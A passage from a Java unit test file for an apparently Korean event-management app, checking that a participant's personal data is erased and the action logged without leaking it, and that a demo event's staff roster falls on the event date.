            assertThat(row.name()).doesNotContain("지워줘요");
            assertThat(row.phone()).isNull();
            assertThat(row.email()).isNull();
            assertThat(participants.personalDataLog(id)).extracting(PersonalDataLogView::action)
                    .containsExactly("ERASE", "EXPORT");
            assertThat(participants.personalDataLog(id)).allSatisfy(l -> {
                assertThat(l.actorName()).isEqualTo("담당자");
                assertThat(l.subject()).doesNotContain("지워줘요").doesNotContain("erase@x.kr");
            });
            assertThatThrownBy(() -> participants.exportPerson(id, pid, null)).isInstanceOf(UserFacingException.class);
            assertThatThrownBy(() -> participants.erasePerson(id, pid)).isInstanceOf(UserFacingException.class);
        });
    }

    /** The demo's roster is for the night school's event day, where its run sheet and run-day page are (was D-15). */
    @Test
    void theDemoRosterIsOnTheNightSchoolsEventDay() {
        var night = signedIn.as("owner@demo.kr", () -> experiments.listMine(false, 0, 50)).stream()
                .filter(e -> e.title().equals("서울역에 일일야학이 열렸다?!")).findFirst().orElseThrow();
        assertThat(signedIn.as("owner@demo.kr", () -> staff.roster(night.id()))).isNotEmpty()
                .allSatisfy(r -> assertThat(r.date()).isEqualTo(night.eventDate()));
    }
}
